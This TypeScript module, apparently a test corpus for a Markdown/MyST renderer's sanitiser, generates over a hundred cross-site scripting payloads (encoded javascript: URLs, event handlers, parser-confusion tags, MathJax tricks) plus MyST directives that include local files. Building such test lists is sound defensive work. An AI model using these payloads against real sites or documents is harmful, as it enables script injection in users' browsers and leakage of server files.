/**
 * Texts that would run `hit`, a call in JavaScript, where a page takes them for markup. Each was
 * written anew for one technique of
 * the OWASP XSS Filter Evasion Cheat Sheet
 * (https://cheatsheetseries.owasp.org/cheatsheets/XSS_Filter_Evasion_Cheat_Sheet.html), under its
 * headings, or of "XSS Injection" in PayloadsAllTheThings
 * (https://github.com/swisskyrepo/PayloadsAllTheThings).
 *
 * @module
 */

const decimal = (text: string, end = ";") =>
  [...text].map((sign) => `&#${sign.charCodeAt(0)}${end}`).join("");
const padded = (text: string) =>
  [...text].map((sign) => `&#${String(sign.charCodeAt(0)).padStart(7, "0")}`).join("");
const hexadecimal = (text: string) =>
  [...text].map((sign) => `&#x${sign.charCodeAt(0).toString(16)}`).join("");
const cssEscaped = (text: string) =>
  [...text].map((sign) => `\\${sign.charCodeAt(0).toString(16).padStart(4, "0")}`).join("");

/** Markup, a technique a line. */
export function markupPayloads(hit: string): string[] {
  const url = `javascript:${hit}`;
  const page = `data:text/html;base64,${btoa(`<script>top.${hit}</script>`)}`;
  const script = `data:text/javascript,${hit}`;
  const svg = `data:image/svg+xml;base64,${
    btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="top.${hit}"/>`)
  }`;
  return [
    // Basic, polyglot, malformed tags
    `<SCRIPT SRC=${script}></SCRIPT>`,
    `<script>${hit}</script>`,
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='${hit}//'>`,
    `<a onmouseover="${hit}">link</a>`,
    `\\<a onmouseover="${hit}"\\>link\\</a\\>`,
    `<a onmouseover=${hit}>link</a>`,
    `<IMG """><SCRIPT>${hit}</SCRIPT>">`,
    `<IMG SRC=${url}>`,
    `<IMG SRC=# onmouseover="${hit}">`,
    `<IMG SRC= onmouseover="${hit}">`,
    `<IMG onmouseover="${hit}">`,
    `<IMG SRC=/ onerror="${hit}"></img>`,
    `<img src=x onerror=${hit}>`,
    `<img src=x onerror=${hit}//`,
    // Characters as references, and what breaks words up
    `<img src=x onerror="${padded(hit)}">`,
    `<a href="${decimal(url)}">link</a>`,
    `<a href=${padded(url)}>link</a>`,
    `<a href=${hexadecimal(url)}>link</a>`,
    `<a href="jav\tascript:${hit}">link</a>`,
    `<a href="jav&#x09;ascript:${hit}">link</a>`,
    `<a href="jav&#x0A;ascript:${hit}">link</a>`,
    `<a href="jav&#x0D;ascript:${hit}">link</a>`,
    `<a href="jav&Tab;ascript&colon;${hit}">link</a>`,
    `<a href="java\0script:${hit}">link</a>`,
    `<a href=" &#14;  javascript:${hit}">link</a>`,
    `<a href="JaVaScRiPt:${hit}">link</a>`,
    `<a href="javascript://%0A${hit}">link</a>`,
    `<a href="&#1;javascript:${hit}">link</a>`,
    // Tags that a filter does not see as such
    `<SCRIPT/XSS>${hit}</SCRIPT>`,
    `<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^\`=${hit}>`,
    `<SCRIPT/SRC="${script}"></SCRIPT>`,
    `<<SCRIPT>${hit};//\\<</SCRIPT>`,
    `<SCRIPT SRC=${script}?< B >`,
    `<img src="x\`<javascript:>\`" onerror="${hit}"`,
    `<iframe src="${url}" <`,
    `</script><script>${hit};</script>`,
    `</TITLE><SCRIPT>${hit};</SCRIPT>`,
    `<scr<script>ipt>${hit}</scr</script>ipt>`,
    `"><script>${hit}</script>`,
    `--><script>${hit}</script>`,
    `</pre></div><script>${hit}</script>`,
    // Attributes that name an address
    `<INPUT TYPE="IMAGE" SRC="x" onerror="${hit}">`,
    `<BODY BACKGROUND="${url}">`,
    `<IMG DYNSRC="${url}" LOWSRC="${url}">`,
    `<STYLE>li {list-style-image: url("${url}");}</STYLE><UL><LI>item</UL>`,
    `<IMG SRC='vbscript:${hit}'>`,
    `<svg/onload=${hit}>`,
    `<svg onload=${hit}//`,
    `<BODY ONLOAD=${hit}>`,
    `<BODY ONLOAD =${hit}>`,
    `<BGSOUND SRC="${url}">`,
    `<BR SIZE="&{${hit}}">`,
    `<LINK REL="stylesheet" HREF="${url}">`,
    `<link rel=stylesheet href="x.css" onerror="${hit}">`,
    `<STYLE>@import'${url}';</STYLE>`,
    `<META HTTP-EQUIV="Link" Content="<${script}>; REL=stylesheet">`,
    `<STYLE>@im\\port'\\ja\\vasc\\ript:${hit}';</STYLE>`,
    `<IMG STYLE="xss:expr/*XSS*/ession(${hit})">`,
    `<STYLE TYPE="text/javascript">${hit};</STYLE>`,
    `<STYLE>.XSS{background-image:url("${url}");}</STYLE><A CLASS=XSS></A>`,
    `<XSS STYLE="behavior: url(xss.htc)" onmouseover="${hit}">text</XSS>`,
    `<META HTTP-EQUIV="refresh" CONTENT="0;url=${url};">`,
    `<META HTTP-EQUIV="refresh" CONTENT="0;url=${page}">`,
    `<META HTTP-EQUIV="refresh" CONTENT="0; URL=http://;URL=${url};">`,
    // Frames, tables, styles, objects
    `<IFRAME SRC="${url}"></IFRAME>`,
    `<IFRAME SRC=# onmouseover="${hit}"></IFRAME>`,
    `<iframe srcdoc="<script>top.${hit}</script>"></iframe>`,
    `<iframe src="${page}"></iframe>`,
    `<FRAMESET><FRAME SRC="${url}"></FRAMESET>`,
    `<TABLE BACKGROUND="${url}"><TD BACKGROUND="${url}">cell</TABLE>`,
    `<DIV STYLE="background-image: url(${url})">text</DIV>`,
    `<DIV STYLE="background-image:${cssEscaped(`url('${url}')`)}">text</DIV>`,
    `<DIV STYLE="width: expression(${hit});">text</DIV>`,
    `<!--[if gte IE 4]><SCRIPT>${hit};</SCRIPT><![endif]-->`,
    `<BASE HREF="${url};//">`,
    `<OBJECT TYPE="text/html" DATA="${page}"></OBJECT>`,
    `<object data="${url}"></object>`,
    `<EMBED SRC="${svg}" type="image/svg+xml" AllowScriptAccess="always"></EMBED>`,
    `<embed src="${url}">`,
    `<XML ID="xss"><I><B><IMG SRC="javas<!-- -->cript:${hit}"></B></I></XML>`,
    `<?xml:namespace prefix="t"><t:set attributeName="innerHTML" to="<SCRIPT>${hit}</SCRIPT>">`,
    `<!--#exec cmd="/bin/echo '<SCR'"--><script>${hit}</script>`,
    `<? echo('<SCR)'; echo('IPT>${hit}</SCRIPT>'); ?>`,
    `<HEAD><META CHARSET=UTF-7></HEAD>+ADw-SCRIPT+AD4-${hit};+ADw-/SCRIPT+AD4-`,
    `<SCRIPT a=">" SRC="${script}"></SCRIPT>`,
    `<SCRIPT =">" SRC="${script}"></SCRIPT>`,
    `<SCRIPT "a='>'" SRC="${script}"></SCRIPT>`,
    `<SCRIPT a=\`>\` SRC="${script}"></SCRIPT>`,
    `<SCRIPT>document.write("<SCRI");</SCRIPT>PT>${hit}</SCRIPT>`,
    `<img src=x onerror="eval(atob('${btoa(hit)}'))">`,
    // HTML5's own events and elements
    `<input autofocus onfocus=${hit}>`,
    `<select autofocus onfocus=${hit}>`,
    `<textarea autofocus onfocus=${hit}></textarea>`,
    `<video/poster/onerror=${hit}>`,
    `<video><source onerror="${hit}"></video>`,
    `<video src=_ onloadstart="${hit}"></video>`,
    `<audio src onloadstart=${hit}></audio>`,
    `<details/open/ontoggle="${hit}">`,
    `<marquee onstart=${hit}>text</marquee>`,
    `<meter value=2 min=0 max=10 onmouseover=${hit}>2 out of 10</meter>`,
    `<button formaction="${url}" form=f>button</button><form id=f></form>`,
    `<form action="${url}"><input type=submit></form>`,
    `<isindex formaction="${url}" type=submit>`,
    `<input type="hidden" accesskey="X" onclick="${hit}">`,
    `<p contenteditable onbeforeinput=${hit} onkeydown=${hit} onblur=${hit}>text</p>`,
    `<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="${hit}">text</b>`,
    `<div onpointerover=${hit} onwheel=${hit} ondrag=${hit} oncopy=${hit}>text</div>`,
    `<dialog open onclose=${hit}><form method=dialog><button>close</button></form></dialog>`,
    `<div popover id=p onbeforetoggle=${hit}>text</div><button popovertarget=p>open</button>`,
    `<x onclick="${hit}" tabindex=1 id=x onfocus="${hit}">text</x>`,
    // SVG and MathML, whose content another parser reads
    `<svg><script>${hit}</script></svg>`,
    `<svg><script href="${script}" /></svg>`,
    `<svg><a xlink:href="${url}"><text y=20>link</text></a></svg>`,
    `<svg><a><animate attributeName=href values="${url}" /><text y=20>link</text></a></svg>`,
    `<svg><animate onbegin=${hit} attributeName=x dur=1s>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' onload='${hit}'></svg>#x">`,
    `<svg><foreignObject><![CDATA[</foreignObject><script>${hit}</script>]]></svg>`,
    `<svg><style><img src=x onerror=${hit}></style></svg>`,
    `<math href="${url}"><mtext>link</mtext></math>`,
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${hit}&gt;">`,
    `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`,
    `<template><img src=x onerror=${hit}></template><img src=x onerror=${hit}>`,
    `<xmp><p title="</xmp><img src=x onerror=${hit}>"></xmp>`,
  ];
}

/** Markdown of its own, for whoever reads it as CommonMark, MyST or with formulas. */
export function markdownPayloads(hit: string): string[] {
  const image = `<img src=x onerror=${hit}>`;
  return [
    // The six that ran, and their like
    `\\$${image}\\$`,
    `\\$<svg onload=${hit}>\\$`,
    `\\\`${image}\\\``,
    `\`\` a\` ${image} \`b`,
    `> \`\`\`{raw} html\n> ${image}\n> \`\`\``,
    `- \`\`\`{raw} html\n  ${image}\n  \`\`\``,
    `> \`\`\`{raw} html\n> $${image}$\n> \`\`\``,
    `- \`\`\`{raw} html\n  \`${image}\`\n  \`\`\``,
    `- :::{raw} html\n  $${image}$\n  :::`,
    `> ~~~{raw} html\n> $$\n> ${image}\n> $$\n> ~~~`,
    `1. :::{raw} html\n   ${image}\n   :::`,
    `~~~ {raw} html\n${image}\n~~~`,
    `\`\`\`{eval-rst}\n.. raw:: html\n\n   ${image}\n\`\`\``,
    `$\n\n${image}\n\n$`,
    `$$\n\`\`\`\n$$\n${image}`,
    `\\\\$${image}$`,
    `<!-- $ -->${image}<!-- $ -->`,
    `a\n${image}\nb`,
    `    code\n\n${image}`,
    // Addresses
    `[link](javascript:${hit})`,
    `[link](JaVaScRiPt:${hit})`,
    `[link](j&#97;vascript&colon;${hit})`,
    `[link](<javascript:${hit}>)`,
    `[link](data:text/html;base64,${btoa(`<script>${hit}</script>`)})`,
    `[link](vbscript:${hit})`,
    `[link][a]\n\n[a]: javascript:${hit}`,
    `<javascript:${hit}>`,
    `![x](javascript:${hit})`,
    `![x](x"onerror="${hit})`,
    `![x" onerror="${hit}](x)`,
    `[link](x "a" onclick="${hit}")`,
    // Formulas
    `$\\href{javascript:${hit}}{link}$`,
    `$$\\href{javascript:${hit}}{link}$$`,
    `$\\href{JAVASCRIPT:${hit}}{link}$`,
    `$\\href{data:text/html,<script>${hit}</script>}{link}$`,
    `$\\style{background:url(javascript:${hit})}{x}$`,
    `$\\class{" onmouseover="${hit}}{x}$`,
    `$\\cssId{x" onmouseover="${hit}}{x}$`,
    `$\\text{${image}}$`,
    `$\\unicode[serif" onmouseover="${hit}]{65}$`,
    `$\\mmlToken{mi}[onclick="${hit}"]{x}$`,
    `$\\require{[mathjax]/../../x}x$`,
    `$</span>${image}$`,
    `$$</div>${image}$$`,
    `$\\) ${image} \\($`,
  ];
}

/** Ways in which a text of MyST takes a file of this machine into the page, or beside it. */
export function filePayloads(path: string): string[] {
  return [
    `{download}\`${path}\``,
    `a {download}\`file <${path}>\``,
    `\`\`\`{include} ${path}\n\`\`\``,
    `> \`\`\`{include} ${path}\n> \`\`\``,
    `- \`\`\`{literalinclude} ${path}\n  \`\`\``,
    `:::{include} ${path}\n:::`,
    `\`\`\`{raw} html\n:file: ${path}\n\`\`\``,
    `\`\`\`{csv-table}\n:file: ${path}\n\`\`\``,
    `\`\`\`{image} ${path}.png\n\`\`\``,
    `:::{figure} ${path}.png\ntext\n:::`,
    `![picture](${path}.png)`,
    `[file](${path})`,
    `[file][b]\n\n[b]: ${path}`,
    `<path:${path}>`,
    `\`\`\`{eval-rst}\n.. include:: ${path}\n\`\`\``,
  ];
}
